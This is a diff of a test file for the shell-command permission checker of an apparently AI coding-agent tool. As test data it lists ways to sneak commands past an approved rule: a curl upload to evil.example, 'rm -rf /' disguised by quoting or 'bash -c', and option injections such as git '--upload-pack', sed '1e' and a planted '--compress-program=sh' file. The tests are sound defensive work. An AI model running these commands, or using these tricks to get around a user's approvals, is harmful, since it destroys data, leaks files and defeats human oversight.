@@ -13,7 +13,7 @@ from kimi_acp.permissions.protected import protected_reason
 from kimi_acp.permissions.rules import Rules
 from kimi_acp.permissions.scope import action_scope, command_scope, host_scope, path_scope
 from kimi_acp.permissions.sensitive import register_sensitive_file, sensitive_reason
-from kimi_acp.permissions.shell_words import split_command
+from kimi_acp.permissions.shell_parse import parse_line
 
 # ------------------------------------------------------------------------------------ sensitive
 
@@ -81,7 +81,7 @@ def test_protected_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Non
 
 
 @pytest.mark.parametrize(
-    ("line", "commands", "opaque"),
+    ("line", "commands", "complex_"),
     [
         ("git status -s", [("git", "status", "-s")], False),
         ("echo x && rm -rf y", [("echo", "x"), ("rm", "-rf", "y")], False),
@@ -90,18 +90,23 @@ def test_protected_paths(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Non
         ("echo hi 2>/dev/null", [("echo", "hi")], False),
         ('echo "a && b"', [("echo", "a && b")], False),
         ("echo hi > out.txt", [("echo", "hi")], True),
-        ("cat $(whoami)", None, True),
-        ("cat `whoami`", None, True),
-        ("FOO=1 npm test", None, True),
-        ("(cd a && ls)", None, True),
+        ("cat $(whoami)", [("whoami",), ("cat", "$(whoami)")], True),
+        ("cat `whoami`", [("whoami",), ("cat", "`whoami`")], True),
+        ("FOO=1 npm test", [("npm", "test")], True),
+        ("(cd a && ls)", [("cd", "a"), ("ls",)], True),
         ("echo 'unclosed", None, True),
+        # issue #29: glued punctuation is no longer one word
+        ("echo harmless;(touch X;)", [("echo", "harmless"), ("touch", "X")], True),
+        ("echo harmless|(touch X;)", [("echo", "harmless"), ("touch", "X")], True),
+        ("echo harmless&&(touch X;)", [("echo", "harmless"), ("touch", "X")], True),
+        ("echo harmless x >| ../elsewhere/file", [("echo", "harmless", "x")], True),
     ],
 )
-def test_command_lines_split_into_simple_commands(line: str, commands: list | None, opaque: bool) -> None:
-    split = split_command(line)
-    assert split.opaque is opaque
+def test_command_lines_are_read_as_bash_reads_them(line: str, commands: list | None, complex_: bool) -> None:
+    parsed = parse_line(line)
+    assert parsed.complex is complex_
     if commands is not None:
-        assert list(split.commands) == commands
+        assert [c.values for c in parsed.commands] == commands
 
 
 # -------------------------------------------------------------------------------------- scopes
@@ -111,44 +116,70 @@ def approved(*scopes: object) -> list[str]:
     return [key for scope in scopes for key in scope.keys()]  # type: ignore[attr-defined]
 
 
-def test_a_command_prefix_covers_that_command_only() -> None:
-    status = command_scope("run command", "git status")
+@pytest.fixture
+def scope_of(tmp_path: Path):  # noqa: ANN201
+    def make(command: str, action: str = "run command"):  # noqa: ANN202
+        return command_scope(action, command, tmp_path, {"HOME": str(tmp_path), "PATH": os.environ["PATH"]})
+
+    return make
+
+
+def test_a_command_form_covers_that_form_only(scope_of) -> None:  # noqa: ANN001
+    status = scope_of("git status")
     assert status.label == "`git status …`"
     kept = approved(status)
-    assert command_scope("run command", "git status -s").covered_by(kept)
-    assert not command_scope("run command", "git push").covered_by(kept)
-    assert not command_scope("run command", "git status && rm -rf y").covered_by(kept)
-    assert not command_scope("run command", "git status > out").covered_by(kept)  # opaque: never covered
-    assert not command_scope("run background command", "git status").covered_by(kept)
-    both = approved(command_scope("run command", "echo x && rm -rf y"))
-    assert command_scope("run command", "rm -rf y; echo x").covered_by(both)
-    assert not command_scope("run command", "rm -rf z").covered_by(both)  # rm is remembered exactly
-    assert not command_scope("run command", "echo y").covered_by(both)  # `echo x …` was approved, not echo
-    assert not command_scope("run command", "echo x > f").remembers
+    assert scope_of("git status -s").covered_by(kept)
+    assert not scope_of("git push").covered_by(kept)
+    assert not scope_of("git status && rm -rf y").covered_by(kept)
+    assert not scope_of("git status > out").covered_by(kept)  # complex: never covered
+    assert not scope_of("git status", "run background command").covered_by(kept)
+    both = approved(scope_of("echo x && rm -rf y"))
+    assert scope_of("rm -rf y; echo x").covered_by(both)
+    assert not scope_of("rm -rf z").covered_by(both)  # rm is remembered exactly
+    assert scope_of("echo y").covered_by(both)  # `echo …`: echo is remembered by its name
+    assert not scope_of("echo x > f").remembers
 
 
 @pytest.mark.parametrize(
     ("approved_command", "label", "covers", "asks"),
     [
-        ("rm -rf build", "`rm -rf build`", ["rm -rf build"], ["rm -rf build ~", "rm -rf src", "rm -r build"]),
+        ("rm -rf build", "`rm -rf build`", ["rm -rf build", "rm -rf 'build'"], ["rm -rf build ~", "rm -rf src", "rm -r build",
+                                                                              "cd /tmp && rm -rf build"]),
         ("chmod 644 a.txt", "`chmod 644 a.txt`", ["chmod 644 a.txt"], ["chmod 644 a.txt ~/.ssh/id_rsa", "chmod 777 a.txt"]),
         ("curl https://example.com/a", "`curl https://example.com/a`", [], ["curl -d @x https://evil.example"]),
         ("git -C ../lib status", "`git -C ../lib status`", ["git -C ../lib status"], ["git -C ../lib push"]),
-        ("cat src/app.py", "`cat …`", ["cat README.md"], ["rm src/app.py"]),
+        ("cat src/app.py", "`cat …`", ["cat README.md", "cat -n x"], ["rm src/app.py"]),
         ("ls -la", "`ls …`", ["ls -t src"], ["lsof -i"]),
-        ("python -m pytest -q", "`python -m pytest …`", ["python -m pytest tests/a.py"], ["python -m http.server", "python -c 'x'"]),
-        ("npm test", "`npm test …`", ["npm test -- --watch=false"], ["npm publish"]),
+        ("python -m pytest -q", "`python -m pytest -q`", ["python -m pytest -q"], ["python -m pytest tests/a.py",
+                                                                                  "python -m http.server"]),
+        ("npm test", "`npm test`", ["npm test"], ["npm test -- --watch=false", "npm test --script-shell=sh"]),
         ("ls", "`ls …`", ["ls -la src"], ["rm -rf ."]),
+        # issue #29: options that run code or write files are not the form that was approved
+        ("git grep -n foo", "`git grep …`", ["git grep -n bar"], ["git grep -O'touch X #' foo", "git grep --open-files-in-pager=x a"]),
+        ("git fetch --all", "`git fetch --all`", ["git fetch --all"], ["git fetch --all --upload-pack='touch X;:'"]),
+        ("git ls-remote --heads .", "`git ls-remote --heads .`", [], ["git ls-remote --heads --upload-pack='touch X;:' ."]),
+        ("sed -n 1p f", "`sed …`", ["sed -n 2p f", "sed -n '1,9p;$p' f"], ["sed -n '1e touch X' f", "sed -n 's/[/]/;/w/p' f",
+                                                                      "sed -i s/a/b/ f", "sed -n 1w/tmp/x f"]),
+        ("awk 'NR==1' f", "`awk 'NR==1' f`", [], ["awk 'BEGIN{system(\"touch X\")}'"]),
+        ("make test", "`make test`", ["make test"], ["make test '--eval=test: ; @touch X'", "make test CC=evil"]),
+        ("git log --oneline -1", "`git log …`", ["git log -3 --stat"], ["git log -1 --format=%B --output=${HOME%/}/.bashrc",
+                                                                       "git log -1 --output=x"]),
+        ("git config user.name x", "`git config user.name x`", ["git config user.name x"],
+         ["git config core.fsmonitor 'touch X'", "git config --global alias.st '!touch X'"]),
+        ("echo sess-one", "`echo …`", ["echo sess-two"], ["echo x; touch y"]),
+        ("rg foo", "`rg …`", ["rg -n bar src"], ["rg --pre sh foo", "rg --hostname-bin=sh x"]),
+        ("fd x", "`fd x`", ["fd x"], ["fd x -x touch", "fd -X rm x"]),
+        ("find . -name '*.py'", "`find …`", ["find src -type f"], ["find . -exec rm {} +", "find . -delete", "find . -fprint x"]),
     ],
 )
-def test_what_an_approved_command_covers(approved_command: str, label: str, covers: list[str], asks: list[str]) -> None:
-    scope = command_scope("run command", approved_command)
-    assert scope.remembers and scope.label == label
-    kept = approved(scope)
+def test_what_an_approved_command_covers(scope_of, approved_command: str, label: str, covers: list[str], asks: list[str]) -> None:  # noqa: ANN001
+    scope = scope_of(approved_command)
+    assert scope.label == label
+    kept = approved(scope) if scope.remembers else []
     for command in covers:
-        assert command_scope("run command", command).covered_by(kept), command
+        assert scope_of(command).covered_by(kept), command
     for command in asks:
-        assert not command_scope("run command", command).covered_by(kept), command
+        assert not scope_of(command).covered_by(kept), command
 
 
 @pytest.mark.parametrize(
@@ -158,20 +189,44 @@ def test_what_an_approved_command_covers(approved_command: str, label: str, cove
         "node --eval=x", "perl -ne 'print' f", "ruby -e x", "deno eval x", "eval ls", "source env.sh",
         "sudo make install", "env FOO=1 make", "timeout 5 make", "nohup make", "xargs rm",
         "find . -name '*.pyc' -delete", "find . -exec rm {} +", "git -c core.pager=sh log", "/usr/bin/env make",
+        "uv run pytest -q", "uvx ruff", "poetry run x", "pipx run x", "npx x", "npm exec x", "pnpm dlx x", "yarn dlx x",
+        "bunx x", "go run .", "cargo run", "docker run x", "docker exec x sh", "kubectl exec x", "conda run x",
+        "pdm run x", "hatch run x", "bundle exec x", "nix run x", "direnv exec . x", "mise exec x",
+        "git submodule foreach x", "git difftool -x x", "awk '{print}' f",
     ],
 )
-def test_a_command_that_runs_whatever_it_is_told_is_never_remembered_or_covered(command: str) -> None:
-    scope = command_scope("run command", command)
-    assert not scope.remembers
-    assert not scope.covered_by(approved(command_scope("run command", command.split()[0])) + [f"run command:{command}"])
+def test_a_command_that_runs_whatever_it_is_told_is_never_remembered_or_covered(scope_of, command: str) -> None:  # noqa: ANN001
+    scope = scope_of(command)
+    assert not scope.remembers, command
+    assert not scope.covered_by(approved(scope_of(command.split()[0])) + [f"run command:exactly={command}"])
 
 
-def test_legacy_bare_actions_cover_no_command() -> None:
-    assert not command_scope("run command", "ls").covered_by(["run command"])
-    assert not command_scope("run command", "rm -rf x").covered_by(["run command:rm"])  # an older prefix
-    assert not command_scope("run command", "git -C x push").covered_by(["run command:git"])
-    assert command_scope("run command", "ls -la").covered_by(["run command:ls"])
+def test_legacy_entries_cover_no_more_than_they_said(scope_of) -> None:  # noqa: ANN001
+    assert not scope_of("ls").covered_by(["run command"])
+    assert not scope_of("rm -rf x").covered_by(["run command:rm"])  # an older prefix
+    assert not scope_of("git -C x push").covered_by(["run command:git"])
+    assert scope_of("ls -la").covered_by(["run command:ls"])
+    assert not scope_of("npm test --script-shell=sh").covered_by(["run command:npm test"])  # an older prefix
+    assert not scope_of("python -m pytest -p evil").covered_by(["run command:python -m pytest"])
+    assert scope_of("rm -rf build").covered_by(["run command:exactly=rm -rf build"])
     assert action_scope("edit file").covered_by(["edit file"])
+
+
+def test_an_exact_entry_is_the_words_bash_sees(scope_of) -> None:  # noqa: ANN001
+    kept = approved(scope_of("rm -rf 'my dir'"))
+    assert scope_of('rm -rf "my dir"').covered_by(kept) and scope_of("rm -rf my\\ dir").covered_by(kept)
+    literal = approved(scope_of("rm -rf '$HOME'"))  # a directory named $HOME
+    assert not scope_of("rm -rf $HOME").covered_by(literal)
+    assert not scope_of("rm -rf '$HOME'").covered_by(approved(scope_of("rm -rf $HOME")))
+
+
+def test_a_glob_that_would_become_an_option_is_not_covered(scope_of, tmp_path: Path) -> None:  # noqa: ANN001
+    kept = approved(scope_of("sort a.txt"))
+    (tmp_path / "a.txt").write_text("b\na\n")
+    assert scope_of("sort *").covered_by(kept)
+    (tmp_path / "--compress-program=sh").write_text("")  # a file a cloned repository can ship
+    assert not scope_of("sort *").covered_by(kept)
+    assert scope_of("sort -- *").covered_by(kept)
 
 
 def test_a_directory_scope_covers_below_it_not_beside_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -207,9 +262,17 @@ def _toml(table: dict[str, list[str]]) -> str:
     return "\n".join(lines) + "\n"
 
 
+def decider(r: Rules, tmp_path: Path):  # noqa: ANN201
+    def decide(line: str) -> str | None:
+        decision = r.decide("Shell", command_scope("run command", line, tmp_path, {}), tmp_path)
+        return decision.verdict if decision else None
+
+    return decide
+
+
 def test_deny_wins_over_ask_and_allow(tmp_path: Path) -> None:
     r = rules(allow=["Shell(git:*)"], ask=["Shell(git push:*)"], deny=["Shell(git push --force:*)"])
-    decide = lambda line: (d.verdict if (d := r.decide("Shell", command_scope("run command", line), tmp_path)) else None)  # noqa: E731
+    decide = decider(r, tmp_path)
     assert decide("git status") == "allow"
     assert decide("git push origin") == "ask"
     assert decide("git push --force origin") == "deny"
@@ -218,13 +281,19 @@ def test_deny_wins_over_ask_and_allow(tmp_path: Path) -> None:
 
 def test_a_command_line_is_allowed_only_when_every_part_is(tmp_path: Path) -> None:
     r = rules(allow=["Shell(git status:*)", "Shell(npm test)"], deny=["Bash(rm:*)"])
-    decide = lambda line: (d.verdict if (d := r.decide("Shell", command_scope("run command", line), tmp_path)) else None)  # noqa: E731
+    decide = decider(r, tmp_path)
     assert decide("git status && npm test") == "allow"
     assert decide("npm test --watch") is None  # exact: only that command
     assert decide("git status && curl x") is None
-    assert decide("git status > out") is None  # opaque: never allowed by a rule
+    assert decide("git status > out") is None  # complex: never allowed by a rule
+    assert decide("git status;(curl x;)") is None
     assert decide("echo a && rm -rf /") == "deny"
     assert decide("cat $(rm -rf /)") == "deny"  # denied even inside what cannot be judged
+    assert decide("echo a;(rm -rf /;)") == "deny"
+    assert decide("r\\m -rf /") == "deny" and decide("'rm' -rf /") == "deny" and decide("$'rm' -rf /") == "deny"
+    assert decide("sudo rm -rf /") == "deny" and decide("xargs rm < list") == "deny"
+    assert decide("bash -c 'echo a; rm -rf /'") == "deny" and decide("sh -c \"sh -c 'rm x'\"") == "deny"
+    assert decide("$CMD -rf /") == "ask"  # a program the agent cannot read: it may be rm
 
 
 def test_path_host_and_tool_rules(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
